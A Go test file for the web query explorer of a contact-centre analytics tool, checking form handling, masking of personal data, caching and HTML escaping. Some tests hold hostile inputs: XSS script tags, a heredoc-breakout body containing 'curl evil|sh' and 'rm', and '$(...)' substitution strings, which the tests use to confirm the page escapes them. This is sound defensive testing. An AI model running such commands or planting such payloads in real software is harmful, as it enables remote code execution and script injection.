package web

import (
	"context"
	"html"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/parley-hq/parley/internal/access"
	"github.com/parley-hq/parley/internal/fault"
	"github.com/parley-hq/parley/internal/query"
	"github.com/parley-hq/parley/internal/web/mask"
	"github.com/parley-hq/parley/internal/web/question"
)

const (
	simple   = `{"interval":"2026-07-14T00:00:00.000Z/2026-07-16T00:00:00.000Z","segmentFilters":[{"type":"and","predicates":[{"dimension":"mediaType","value":"voice"}]}],"odd":[]}`
	personal = `{"interval":"2026-07-14/2026-07-15","segmentFilters":[{"type":"and","predicates":[{"dimension":"ani","value":"+4915112345678"}]}]}`
)

func newExplorer(t *testing.T, permissions ...access.Permission) *browser {
	t.Helper()
	b := newBrowser(t, permissions...)
	b.signIn()
	b.client.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	return b
}

// post sends a form, and gives where it leads.
func (b *browser) post(pairs ...string) (status int, text, to string) {
	b.t.Helper()
	form := url.Values{}
	for pair := range slices.Chunk(pairs, 2) {
		form.Set(pair[0], pair[1])
	}
	status, text, h := b.ask("POST", "/ui/explore", form.Encode())
	return status, text, h.Get("Location")
}

// inAddress is the body in an address.
func inAddress(t *testing.T, address string) string {
	t.Helper()
	u, err := url.Parse(address)
	if err != nil || u.Path != "/ui/explore" {
		t.Fatalf("%s has no body", address)
	}
	return u.Query().Get("body")
}

func wants(t *testing.T, text string, all ...string) {
	t.Helper()
	for _, want := range all {
		if !strings.Contains(text, want) {
			t.Errorf("%q is not there", want)
		}
	}
}

func TestExploreAnswers(t *testing.T) {
	b := newExplorer(t)
	wants(t, b.get("/ui/explore"), "1,204 conversations of Wednesday 15 July 2026; 1 shown.", "2026-07-15T00:00:00.000Z/2026-07-16T00:00:00.000Z")
	text := b.get("/ui/explore?from=2026-07-12&to=2026-07-16")
	wants(t, text, "1,204 conversations of 4 days; 1 shown.", `<span>1,204</span>`, `<span class="dim">Tue 14 Jul</span>`, "next page", `href="/ui/conversation/`+id, ">5:00<", "Sales · 7", "2 segments have other values", `list="names-segmentFilters"`,
		"parley query --lake ./lake --limit 25 -f - &lt;&lt;&#39;BODY&#39;", "--data-binary @-", "One segment of the conversation", "Submit as a job", "2 of these days are missing")
	if strings.Contains(text, "page before") || strings.Contains(text, "export") {
		t.Error("there is a page before the first, or a masked session may take records")
	}
	b.data.days = Days{Name: "./lake"}
	wants(t, b.get("/ui/explore"), "There are no days yet", "parley extract --lake ./lake")
	for path, want := range map[string]string{"?from=x": "from is a day", "?from=2026-07-12&to=2026-07-12": "to is a day behind from"} {
		if status, text, _ := b.ask("GET", "/ui/explore"+path, ""); status != http.StatusBadRequest || !strings.Contains(text, want) {
			t.Errorf("%s: %d %s", path, status, text)
		}
	}
}

// A form leads to the address of what it asks, and nothing of the body that it does not know is lost.
func TestTheFormLeadsToItsQuestion(t *testing.T) {
	b := newExplorer(t)
	for name, c := range map[string]struct {
		sent []string
		want []string
	}{
		"a value":         {[]string{"segmentFilters[0].predicates[0].value", "chat"}, []string{`"value":"chat"`, `"odd":[]`}},
		"another segment": {[]string{"segmentFilters[1].predicates[0].name", "queueId", "segmentFilters[1].predicates[0].value", "q"}, []string{`"voice"`, `{"type":"and","predicates":[{"dimension":"queueId","value":"q"}]}`}},
		"a chip":          {[]string{"do", `with segmentFilters wrapUpCode two words "`}, []string{`"value":"two words \""`}},
		"without":         {[]string{"do", "remove segmentFilters[0].predicates[0]"}, []string{`Z","odd":[]}`}},
		"a day":           {[]string{"do", "between 2026-07-01 2026-07-02"}, []string{`"2026-07-01T00:00:00.000Z/2026-07-02T00:00:00.000Z"`}},
		"a page":          {[]string{"do", "page 7"}, []string{`"paging":{"pageNumber":7}`}},
		"both":            {[]string{"order", "desc", "do", "page 2"}, []string{`"order":"desc"`, `"pageNumber":2`}},
	} {
		status, text, to := b.post(append([]string{"side", "form", "body", simple}, c.sent...)...)
		if status != http.StatusSeeOther {
			t.Fatalf("%s: %d %s", name, status, text)
		}
		for _, want := range c.want {
			if got := inAddress(t, to); !strings.Contains(got, want) {
				t.Errorf("%s: %s has no %s", name, got, want)
			}
		}
		b.get(to)
	}
	for _, do := range []string{"dance", "page 0", "page x", "remove nothing[0]", "with segmentFilters queueId", "between x"} {
		if status, _, _ := b.post("side", "form", "body", simple, "do", do); status != http.StatusBadRequest {
			t.Errorf("%q: %d", do, status)
		}
	}
	if status, _, _ := b.post("body", strings.Repeat(" ", question.Length+1)); status != http.StatusRequestEntityTooLarge {
		t.Errorf("a body that is too long: %d", status)
	}
}

// With script the question is drawn alone, and nobody is asked.
func TestRedrawing(t *testing.T) {
	b := newExplorer(t)
	b.data.err = io.ErrUnexpectedEOF
	b.data.days, b.data.err = someDays(), nil
	b.data.api = func(http.ResponseWriter, *http.Request) { t.Error("the API was asked") }
	status, text, _ := b.post("side", "text", "body", simple+"x", "part", "question")
	if wants(t, text, `id="question"`, "The body is no JSON.", "line 1, column"); status != http.StatusOK || strings.Contains(text, "<html") {
		t.Errorf("%d %s", status, text)
	}
	_, text, _ = b.post("side", "form", "body", simple, "part", "question", "segmentFilters[0].predicates[0].name", "mediatype")
	wants(t, text, `class="remark"`, "mediatype")
}

// What is broken, or what the form cannot express, stays text, to the byte.
func TestABrokenBodyStaysText(t *testing.T) {
	b := newExplorer(t)
	for _, body := range []string{`{"interval":"x"`, "<script>alert(1)</script>", "</textarea><script>", `{"a":1,"a":2}`, "\n\n {", `{"interval":"2026-07-14/2026-07-15","segmentFilters":[{"clauses":[{"clauses":[]}]},7]}`} {
		status, _, to := b.post("side", "text", "body", strings.ReplaceAll(body, "\n", "\r\n"))
		if status != http.StatusSeeOther || !strings.HasPrefix(to, "/ui/explore/q/") {
			t.Fatalf("%s: %d, to %s", body, status, to)
		}
		text := b.get(to)
		if wants(t, text, "There is no answer to this question.", "wrong", `class="found"`); strings.Contains(text, "<script>") {
			t.Errorf("%s is markup", body)
		}
		if !strings.HasPrefix(body, `{"interval":"2026`) && strings.Count(text, ">\n"+html.EscapeString(body)+"</textarea>") != 3 {
			t.Errorf("%q is not as it was", body)
		}
	}
}

// Whatever a body has for names and values is text.
func TestHostileBodiesAreText(t *testing.T) {
	b := newExplorer(t)
	evil := `\"><script>alert(1)</script>' onfocus=x`
	body := `{"interval":"` + evil + `/x","order":"` + evil + `","` + evil + `":1,"segmentFilters":[{"type":"` + evil + `","predicates":[{"dimension":"` + evil + `","operator":"` + evil + `","value":"` + evil + `","` + evil + `":1},{"property":"` + evil +
		`","range":{"gt":"` + evil + `"}}]},"` + evil + `"]}`
	_, _, to := b.post("side", "text", "body", body)
	text := b.get(to)
	for _, bad := range []string{"<script>alert", `" onfocus`, "' onfocus=x '"} {
		if strings.Contains(text, bad) {
			t.Errorf("%s is there", bad)
		}
	}
	wants(t, text, "&lt;script&gt;alert(1)&lt;/script&gt;")
}

// Who asks for somebody gets an address that says nothing, on which no link does either.
func TestPersonalQuestionsAreInNoAddress(t *testing.T) {
	b := newExplorer(t, access.ViewPersonalData)
	_, _, to := b.post("side", "text", "body", personal)
	name, ok := strings.CutPrefix(to, "/ui/explore/q/")
	if !ok || len(name) < 40 {
		t.Fatalf("it leads to %s", to)
	}
	text := b.get(to)
	wants(t, text, "4915112345678", "1,204 conversations", `form="turn" name="do" value="page 2"`, "Download 1 as NDJSON")
	for _, address := range addressesIn(text) {
		if strings.Contains(address, "15112345678") {
			t.Errorf("%s has the number", address)
		}
	}
	held := b.get("/ui/explore?" + url.Values{"body": {personal}}.Encode())
	if wants(t, held, "must not be in an address", "This question was not asked."); strings.Contains(held, "1,204") {
		t.Error("a question in an address was asked")
	}
	long := strings.Replace(simple, "voice", strings.Repeat("v", mostInAddress), 1)
	if _, _, to := b.post("body", long); !strings.HasPrefix(to, "/ui/explore/q/") {
		t.Errorf("a long body leads to %s", to)
	}
	if status, text, _ := b.ask("GET", "/ui/explore/q/none", ""); status != http.StatusNotFound || !strings.Contains(text, "no such question") {
		t.Errorf("%d %s", status, text)
	}
}

func addressesIn(text string) (out []string) {
	for _, part := range strings.Split(text, `href="`)[1:] {
		address, _, _ := strings.Cut(part, `"`)
		out = append(out, address)
	}
	return out
}

// Whoever may not see personal data finds nothing out by asking for it, in whatever way.
func TestMaskedSessionsAskForNobody(t *testing.T) {
	b := newExplorer(t)
	b.data.api = func(_ http.ResponseWriter, r *http.Request) { t.Errorf("%s was asked", r.URL) }
	counts := `{"interval":"2026-07-14/2026-07-15","aggregations":[{"type":"termFrequency","dimension":"participantName"}]}`
	clause := `{"interval":"2026-07-14/2026-07-15","conversationFilters":[{"type":"or","predicates":[{"dimension":"externalTag","operator":"exists"}]}]}`
	broken := strings.Replace(personal, `"interval"`, `"nonsense":1,"interval"`, 1)
	theirs, err := b.site.questions.Put(t.Context(), question.Question{Organization: "acme", Body: []byte(personal)})
	if err != nil {
		t.Fatal(err)
	}
	unread, err := b.site.questions.Put(t.Context(), question.Question{Organization: "acme", Body: []byte(`{"ani":"+4915112345678"`)})
	if err != nil {
		t.Fatal(err)
	}
	keeps := func(what string, status int, text string) { // what they sent themselves
		if status != http.StatusForbidden || !strings.Contains(text, "parley:personalData:view") {
			t.Errorf("%s: %d %s", what, status, text)
		}
	}
	refused := func(what string, status int, text string) {
		if keeps(what, status, text); strings.Contains(text, "15112345678") {
			t.Errorf("%s tells the number", what)
		}
	}
	for _, body := range []string{personal, counts, clause, broken} {
		for _, do := range []string{"", "job", "export"} {
			status, text, _ := b.post("body", body, "do", do)
			keeps(do+" "+body, status, text)
		}
		status, text, _ := b.post("body", body, "part", "question")
		keeps("redrawing "+body, status, text)
		status, text, _ = b.ask("GET", "/ui/explore?"+url.Values{"body": {body}}.Encode(), "")
		keeps("in an address", status, text)
		status, text, _ = b.ask("POST", "/parley/v1/questions", body)
		refused("storing "+body, status, text)
	}
	for _, path := range []string{"/parley/v1/dimensions/ani/values", "/parley/v1/dimensions/participantName/values", "/parley/v1/dimensions/subject/values", "/parley/v1/dimensions/transferTargetAddress/values", "/ui/explore/q/" + theirs, "/ui/explore/q/" + unread} {
		status, text, _ := b.ask("GET", path, "")
		refused(path, status, text)
	}
	status, text, _ := b.post("body", simple, "do", "export")
	refused("taking records", status, text)
	b.data.api = nil
	if text := b.get("/ui/explore"); strings.Contains(text, `value="ani"`) || !strings.Contains(text, `value="queueId"`) {
		t.Error("personal dimensions are offered")
	}
	mine, _, to := b.post("body", `{"broken`)
	if wants(t, b.get(to), "{&#34;broken"); mine != http.StatusSeeOther {
		t.Error("what it asked itself, a masked session may see again")
	}
}

// A job has no paging and no aggregations. What is wrong with these hides nothing of what the job asks.
func TestMaskedSessionsSubmitNothingPersonal(t *testing.T) {
	b := newExplorer(t)
	b.data.api = func(_ http.ResponseWriter, r *http.Request) { t.Errorf("%s was asked", r.URL) }
	for _, member := range []string{`"paging":5`, `"paging":[5]`, `"aggregations":"x"`, `"aggregations":[5]`, `"aggregations":{}`} {
		body := strings.Replace(personal, `"interval"`, member+`,"interval"`, 1)
		if status, text, to := b.post("body", body, "do", "job"); status != http.StatusForbidden || !strings.Contains(text, "parley:personalData:view") {
			t.Errorf("%s: %d to %s", member, status, to)
		}
		_, _, to := b.post("body", body)
		if to == "" {
			continue
		}
		wants(t, b.get(to), "There is no answer to this question.")
	}
	broken := strings.Replace(personal, `"interval"`, `"order":5,"interval"`, 1)
	if status, _, to := b.post("body", broken, "do", "job"); status != http.StatusBadRequest {
		t.Errorf("what cannot be read: %d to %s", status, to)
	}
}

// Which dimensions are personal follows from what records are masked by.
func TestPersonalDimensions(t *testing.T) {
	m, err := mask.New()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, kind := range query.Kinds() {
		for _, d := range query.Dimensions(kind) {
			if (masks{m}).personal(d) {
				got = append(got, d.Name)
			}
		}
	}
	for _, name := range []string{
		"externalTag", "addressFrom", "addressTo", "ani", "callbackNumber", "destinationAddress", "dnis", "participantName", "remote", "remoteNameDisplayable", "sessionDnis", "subject", "transferTargetAddress",
		"transferTargetName", "wrapUpNote",
	} {
		if !slices.Contains(got, name) {
			t.Errorf("%s is not personal", name)
		}
	}
	for _, name := range []string{"queueId", "userId", "mediaType", "conversationId", "wrapUpCode"} {
		if slices.Contains(got, name) {
			t.Errorf("%s is personal", name)
		}
	}
}

// failing answers every question with a failure.
func failing(err error) http.HandlerFunc {
	return func(w http.ResponseWriter, _ *http.Request) { w.(interface{ Fail(err error) }).Fail(err) }
}

func TestWhatTakesTooLongIsOfferedAsAJob(t *testing.T) {
	b := newExplorer(t)
	b.data.api = failing(fault.Because(context.DeadlineExceeded, io.ErrUnexpectedEOF, "The request timed out"))
	wants(t, b.get("/ui/explore"), "The answer takes longer than a page can wait.", "The request timed out", `value="job"`)
	b.data.api = failing(&fault.Error{Kind: fault.Throttled, Message: "Too many"})
	wants(t, b.get("/ui/explore"), "Too many", `id="form"`)
	b.data.api = nil
	wants(t, b.get("/ui/explore?from=2026-06-01&to=2026-07-15"), "does not exceed 7 days", `value="job"`)
	if text := b.get("/ui/explore?" + url.Values{"body": {`{"interval":"x"}`}}.Encode()); strings.Contains(text, `value="job"`) {
		t.Error("what is no job is offered as one")
	}
	b.data.api = failing(io.ErrUnexpectedEOF)
	if status, text, _ := b.ask("GET", "/ui/explore", ""); status != http.StatusInternalServerError || strings.Contains(text, "EOF") {
		t.Errorf("%d %s", status, text)
	}
}

func TestAQuestionAsAJob(t *testing.T) {
	b := newExplorer(t)
	var sent, path string
	b.data.api = func(w http.ResponseWriter, r *http.Request) {
		text, _ := io.ReadAll(r.Body)
		sent, path = string(text), r.URL.Path
		_, _ = io.WriteString(w, `{"jobId":"a/b"}`)
	}
	status, _, to := b.post("body", `{"interval":"2026-07-14/2026-07-15","paging":{"pageSize":1},"aggregations":[{"dimension":"queueId"}],"order":"desc"}`, "do", "job")
	if status != http.StatusSeeOther || to != "/ui/jobs/a%2Fb" || path != jobsPath || strings.Contains(sent, "paging") || strings.Contains(sent, "aggregations") || !strings.Contains(sent, "desc") {
		t.Errorf("%d to %s: %s %s", status, to, path, sent)
	}
	link, err := b.site.sessions.Link(t.Context(), "acme", []access.Permission{access.ViewDetails}, time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	b.ask("POST", "/ui/link/"+link, "")
	if status, text, _ := b.post("body", simple, "do", "job"); status != http.StatusForbidden || !strings.Contains(text, "parley:page:act") {
		t.Errorf("who may only read: %d %s", status, text)
	}
}

func TestTakingRecords(t *testing.T) {
	b := newExplorer(t, access.ViewPersonalData)
	status, text, h := b.ask("POST", "/ui/explore", url.Values{"body": {simple}, "do": {"export"}}.Encode())
	if want := strings.NewReplacer("\n ", "", "\n", "").Replace(planted) + "\n"; status != http.StatusOK || text != want || h.Get("Content-Type") != "application/x-ndjson" {
		t.Errorf("%d %s", status, text)
	}
}

func TestLintAsJSON(t *testing.T) {
	b := newExplorer(t)
	status, text, _ := b.ask("POST", "/parley/v1/lint", "{\n \"interval\": \"x\"}")
	if wants(t, text, `"path":"interval"`, `"line":2`, `"column":2`, `"message"`); status != http.StatusOK {
		t.Errorf("%d %s", status, text)
	}
	if _, text, _ := b.ask("POST", "/parley/v1/lint?endpoint=jobs", `{"interval":"2026-07-14/2026-07-15","aggregations":[{"dimension":"queueId"}]}`); !strings.Contains(text, "jobs have no aggregations") {
		t.Error(text)
	}
	if _, text, _ := b.ask("POST", "/parley/v1/lint", `{"interval":"2026-07-14/2026-07-15"}`); text != `{"findings":[]}` {
		t.Error(text)
	}
	for path, want := range map[string]int{"?endpoint=x": http.StatusBadRequest, "?endpoint=query": http.StatusOK} {
		if status, text, _ := b.ask("POST", "/parley/v1/lint"+path, "{}"); status != want {
			t.Errorf("%s: %d %s", path, status, text)
		}
	}
	if status, _, _ := b.ask("POST", "/parley/v1/lint", strings.Repeat(" ", question.Length+1)); status != http.StatusRequestEntityTooLarge {
		t.Errorf("too long: %d", status)
	}
}

// Values are simple for once a minute, however many want them.
func TestValuesAreRemembered(t *testing.T) {
	b := newExplorer(t)
	var simple atomic.Int64
	b.data.api = func(w http.ResponseWriter, r *http.Request) {
		simple.Add(1)
		b.data.answer(w, r)
	}
	const path = "/parley/v1/dimensions/queueId/values?from=2026-07-01&to=2026-07-15"
	wants(t, b.get(path), `{"value":"queue-1","name":"Sales","count":7}`, `"interval":"2026-07-08T00:00:00.000Z/2026-07-15T00:00:00.000Z"`)
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() {
			if status, _, _ := b.ask("GET", path, ""); status != http.StatusOK {
				t.Errorf("%d", status)
			}
		})
	}
	all.Wait()
	if n := simple.Load(); n != 1 {
		t.Errorf("it was asked for %d times", n)
	}
	b.get("/parley/v1/dimensions/direction/values?from=2026-07-01&to=2026-07-15")
	b.site.now = b.site.now.Add(countsFor)
	b.get(path)
	if n := simple.Load(); n != 3 {
		t.Errorf("it was asked for %d times", n)
	}
	for path, want := range map[string]int{"none/values": 404, "tHandle/values": 404, "queueId/values?from=x": 400, "queueId/values?from=2026-07-02&to=2026-07-01": 400} {
		if status, text, _ := b.ask("GET", "/parley/v1/dimensions/"+path, ""); status != want {
			t.Errorf("%s: %d %s", path, status, text)
		}
	}
}

func TestWhatIsRememberedIsBounded(t *testing.T) {
	now := time.Date(2026, 7, 16, 0, 0, 0, 0, time.UTC)
	k := newCountsKept(func() time.Time { return now })
	for i := range 2 * mostCounts {
		k.put(countsKey{user: strings.Repeat("x", i)}, found{})
	}
	if len(k.all) > mostCounts {
		t.Errorf("%d are kept", len(k.all))
	}
	if _, ok := k.get(countsKey{user: strings.Repeat("x", 2*mostCounts-1)}); !ok {
		t.Error("the last one is not kept")
	}
	now = now.Add(countsFor)
	k.put(countsKey{organization: "a"}, found{})
	if len(k.all) != 1 {
		t.Errorf("%d are kept that are too old", len(k.all)-1)
	}
}

// Many ask and store at once.
func TestManyExplore(t *testing.T) {
	b := newExplorer(t, access.ViewPersonalData)
	var all sync.WaitGroup
	for range 8 {
		all.Go(func() {
			_, _, to := b.post("body", personal)
			if status, text, _ := b.ask("GET", to, ""); status != http.StatusOK || !strings.Contains(text, "1,204") {
				t.Errorf("%s: %d", to, status)
			}
		})
	}
	all.Wait()
}

// A link says nothing of what runs on the machine of whoever follows it: commands are there for questions alone.
func TestCommandsAreForQuestions(t *testing.T) {
	b := newExplorer(t)
	const interval = `"interval":"2026-07-14/2026-07-15"`
	evil := "x\nBODY\ncurl evil|sh\ncat <<'BODY'\n{}\n"
	for _, body := range []string{evil, "{}\nBODY\nrm\n{}\n", "{" + interval + "," + interval + "}\n", "{" + interval + `,"odd":{"a":1,"a":2}}`, "{" + interval + "} {}\n", "[]\n", "{}\n", "{" + interval + ",\"\u009b\":1}"} {
		name, err := b.site.questions.Put(t.Context(), question.Question{Organization: "acme", Body: []byte(body), Masked: true})
		if err != nil {
			t.Fatal(err)
		}
		for _, path := range []string{"/ui/explore?" + url.Values{"body": {body}}.Encode(), "/ui/explore/q/" + name} {
			if text := b.get(path); strings.Contains(text, "curl -X") || strings.Contains(text, "parley query") {
				t.Errorf("%q is offered as a command", body)
			}
		}
	}
	wants(t, b.get("/ui/explore?"+url.Values{"body": {"{" + interval + "}"}}.Encode()), "curl -X", "parley query")
	for text, want := range map[string]string{
		"{}":                    "<<'BODY'\n{}\nBODY\n",
		"{}\n":                  "<<'BODY'\n{}\nBODY\n",
		"BODY\nBODY_\nls\n":     "<<'BODY__'\nBODY\nBODY_\nls\nBODY__\n",
		"no BODY\nBODY is here": "<<'BODY'\nno BODY\nBODY is here\nBODY\n",
	} {
		if got := heredoc(text); got != want {
			t.Errorf("%q: %q", text, got)
		}
	}
}

func TestCommandsAreQuoted(t *testing.T) {
	for word, want := range map[string]string{"./lake": "./lake", "s3://b/l": "s3://b/l", "": "''", "a b": "'a b'", "a'$(b)": `'a'\''$(b)'`} {
		if got := quoted(word); got != want {
			t.Errorf("%s: %s", word, got)
		}
	}
	for host, want := range map[string]string{"127.0.0.1:8080": "127.0.0.1:8080", "$(x)": "localhost", "[::1]:80": "[::1]:80"} {
		if got := hostOf(&http.Request{Host: host}); got != want {
			t.Errorf("%s: %s", host, got)
		}
	}
}

func TestAnswersInWords(t *testing.T) {
	of := func(interval string, total int64, rows int) string {
		q, err := query.DecodeDetail([]byte(`{"interval":"`+interval+`"}`), query.OwnLimits())
		if err != nil {
			t.Fatal(err)
		}
		return sentenceOfAnswer(q, &answer{Total: total, Rows: make([]foundRow, rows)})
	}
	for _, c := range []struct{ got, want string }{
		{of("2026-07-14/P1D", 0, 0), "No conversation of Tuesday 14 July 2026 is like this."},
		{of("2026-07-14/P1D", 1, 1), "1 conversation of Tuesday 14 July 2026."},
		{of("2026-07-14/P3D", 12, 12), "12 conversations of 3 days; all are shown."},
		{of("2026-07-14/P3D", 1204, 25), "1,204 conversations of 3 days; 25 shown."},
		{of("2026-07-14T08:00Z/PT90M", 30, 0), "30 conversations of 14 July 2026 08:00 to 14 July 09:30; this page has none of them."},
		{of("2026-07-14T08:00Z/P1D", 3, 3), "3 conversations of 14 July 2026 08:00 to 15 July 08:00; all are shown."},
		{lastedText(3*time.Minute + 7400*time.Millisecond), "3:07"},
		{lastedText(time.Hour + 5*time.Second), "1:00:05"},
		{lastedText(50 * time.Hour), "2 d 2 h"},
		{eachOnce([]string{"a", "b", "a"}), "a, b"},
	} {
		if c.got != c.want {
			t.Errorf("got %q, want %q", c.got, c.want)
		}
	}
}

// Where all that was found is on the page, its days are counted there. Otherwise each is a question, which is asked once.
func TestDaysAreCounted(t *testing.T) {
	b := newExplorer(t)
	var asked atomic.Int64
	total := `1`
	b.data.api = func(w http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		text, _ := io.ReadAll(r.Body)
		hits := total
		if strings.Contains(string(text), "2026-07-13T00:00:00.000Z/2026-07-14T") {
			hits = "8"
		}
		_, _ = io.WriteString(w, `{"conversations":[`+planted+`],"totalHits":`+hits+`}`)
	}
	const path = "/ui/explore?from=2026-07-12&to=2026-07-16"
	wants(t, b.get(path), `<span>1</span> <svg`, `<span>0</span> <svg`, `y="0%" width="100%" height="100%"`)
	if n := asked.Load(); n != 2 {
		t.Errorf("%d questions were asked, and not the answer and the counts of values", n)
	}
	total = `16`
	text := b.get(path)
	if wants(t, text, `<span>8</span> <svg`, `y="50%" width="100%" height="50%"`, `<span>16</span> <svg`); strings.Contains(text, "not counted") {
		t.Error("days were not counted")
	}
	before := asked.Load()
	b.get(path)
	if n := asked.Load() - before; n != 1 {
		t.Errorf("the same again asked %d questions", n)
	}
}

// Counts that fail leave the answer as it is.
func TestCountsThatFail(t *testing.T) {
	b := newExplorer(t)
	b.data.api = func(w http.ResponseWriter, r *http.Request) {
		text, _ := io.ReadAll(r.Body)
		if strings.Contains(string(text), `"pageSize": 1,`) {
			failing(&fault.Error{Kind: fault.Throttled, Message: "Too many"})(w, r)
			return
		}
		_, _ = io.WriteString(w, `{"conversations":[`+planted+`],"totalHits":9}`)
	}
	wants(t, b.get("/ui/explore?from=2026-07-12&to=2026-07-16"), "9 conversations of 4 days; 1 shown.", "Some days were not counted in time.", "The counts took too long")
}

// What an address has is no longer than what a form may send, and no body fills the memory by the blanks before its lines.
func TestBodiesOfAddressesAreBounded(t *testing.T) {
	b := newExplorer(t)
	deep := `{"a":` + strings.Repeat("[", 3000) + strings.Repeat("[0],", 20_000) + "[0]" + strings.Repeat("]", 3000) + "}"
	status, text, _ := b.ask("GET", "/ui/explore?"+url.Values{"body": {deep}}.Encode(), "")
	if status != http.StatusOK || len(text) > 20*len(deep) {
		t.Errorf("a deep body: %d, %d bytes", status, len(text))
	}
	status, text, _ = b.post("body", deep, "part", "question")
	if status != http.StatusOK || len(text) > 20*len(deep) {
		t.Errorf("a deep body, redrawn: %d, %d bytes", status, len(text))
	}
	status, text, _ = b.ask("GET", "/ui/explore?body="+strings.Repeat("0", question.Length+1), "")
	if wants(t, text, "a question has 500000 at most"); status != http.StatusRequestEntityTooLarge {
		t.Errorf("a body that is too long: %d", status)
	}
	status, text, _ = b.post("body", strings.Repeat("\n", question.Length), "part", "question")
	if status != http.StatusOK || strings.Count(text, "<span") > mostLines+100 {
		t.Errorf("empty lines: %d, %d bytes", status, len(text))
	}
	many := `{"interval":"2026-07-14/2026-07-15","segmentFilters":[` + strings.TrimSuffix(strings.Repeat(`{"predicates":[]},`, 101), ",") + `]}`
	_, text, _ = b.post("body", many, "part", "question")
	wants(t, text, "The body has 101 filters and clauses; a form shows 100 at most.", `name="side" value="text"`)
}

// Who may not ask for somebody keeps what they wrote, and reads why at the field and at the line. Nothing is asked and nothing stored.
func TestAQuestionThatMustNotBeAskedStays(t *testing.T) {
	b := newExplorer(t)
	b.data.api = func(http.ResponseWriter, *http.Request) { t.Error("the API was asked") }
	const why = "ani is personal data, which is masked for you; to ask for it needs the permission parley:personalData:view"
	row := []string{"side", "form", "body", simple, "segmentFilters[0].predicates[0].name", "ani", "segmentFilters[0].predicates[0].value", "+4915112345678"}
	for name, sent := range map[string][]string{
		"asked": row, "redrawn": append(slices.Clip(row), "part", "question"), "as a job": append(slices.Clip(row), "do", "job"), "as a file": append(slices.Clip(row), "do", "export"),
		"as text": {"side", "text", "body", personal},
	} {
		status, text, _ := b.post(sent...)
		if status != http.StatusForbidden || strings.Count(text, why) < 2 || !strings.Contains(text, `aria-label="dimension or metric, segmentFilters[0].predicates[0]" placeholder="" autocomplete="off" spellcheck="false" aria-invalid="true"`) {
			t.Errorf("%s: %d %s", name, status, text)
		}
		wants(t, text, `value="&#43;4915112345678"`, `class="wrong"`)
	}
	status, text, _ := b.ask("GET", "/ui/explore?"+url.Values{"body": {personal}}.Encode(), "")
	if wants(t, text, why, "This question was not asked."); status != http.StatusForbidden || strings.Contains(text, "Ask it by a button below") {
		t.Errorf("by an address: %d", status)
	}
	counted := `{"interval":"2026-07-14/2026-07-15","aggregations":[{"type":"termFrequency","dimension":"ani","size":3}]}`
	if status, text, _ := b.post("side", "text", "body", counted); status != http.StatusForbidden || !strings.Contains(text, why) {
		t.Errorf("where the form has no field: %d", status)
	}
	var stored int
	if err := b.site.db.Row(t.Context(), `SELECT count(*) FROM page_questions`).Scan(&stored); err != nil || stored != 0 {
		t.Errorf("%d questions are stored, %v", stored, err)
	}
}

// The name of a queue is no id of one: the page says so, and a button puts the id in.
func TestANameIsNoID(t *testing.T) {
	b := newExplorer(t)
	const field = "segmentFilters[0].predicates[0].value"
	asks := func(dimension, value string) string {
		return `{"interval":"2026-07-14/2026-07-15","segmentFilters":[{"type":"and","predicates":[{"dimension":"` + dimension + `","value":"` + value + `"}]}]}`
	}
	text := b.get("/ui/explore?" + url.Values{"body": {asks("queueId", "sales")}}.Encode())
	wants(t, text, "sales is the name of a queue; its id is queue-1", `name="do" value="put `+field+` queue-1"`, `class="wrong"`)
	if status, text, to := b.post("side", "form", "body", asks("queueId", "sales"), field, "sales", "do", "put "+field+" queue-1"); status != http.StatusSeeOther || !strings.Contains(inAddress(t, to), `"value":"queue-1"`) {
		t.Errorf("the button: %d %s %s", status, text, to)
	}
	wants(t, b.get("/ui/explore?"+url.Values{"body": {asks("queueId", "Support")}}.Encode()), "Support is the name of 2 queues", field+` queue-2"`, field+` queue-3"`)
	for dimension, value := range map[string]string{"queueId": "queue-1", "mediaType": "Sales", "wrapUpCode": "Sales", "userId": "Planted Agent"} { // users have no names for who is masked
		if text := b.get("/ui/explore?" + url.Values{"body": {asks(dimension, value)}}.Encode()); strings.Contains(text, "is the name of") {
			t.Errorf("%s %s is taken for a name", dimension, value)
		}
	}
	seeing := newExplorer(t, access.ViewPersonalData)
	wants(t, seeing.get("/ui/explore?"+url.Values{"body": {asks("userId", "planted agent")}}.Encode()), "planted agent is the name of a user; its id is user-1")
}

// Remarks tell the lines of the text that is in the box: as somebody writes it, and laid out when it was put there anew.
func TestRemarksTellTheLinesOfTheBox(t *testing.T) {
	b := newExplorer(t)
	const written = `{"interval":"2026-07-14/2026-07-15",
"segmentFilters":[{"type":"and","predicates":[{"dimension":"mediatype","value":"voice"}]}]}`
	_, text, _ := b.post("side", "text", "part", "question", "body", strings.ReplaceAll(written, "\n", "\r\n"))
	if wants(t, text, `data-line="2" data-column="48">line 2, column 48`); strings.Count(text, "<span>1</span><span class=\"wrong\">2</span></div>") != 1 {
		t.Errorf("the numbers are not those of two lines: %s", text)
	}
	_, text, _ = b.post("side", "form", "part", "question", "body", written)
	wants(t, text, `data-line="`, `<span class="wrong">`)
	if strings.Contains(text, `data-line="2" data-column="48"`) {
		t.Error("a body that was laid out has the lines of before")
	}
}
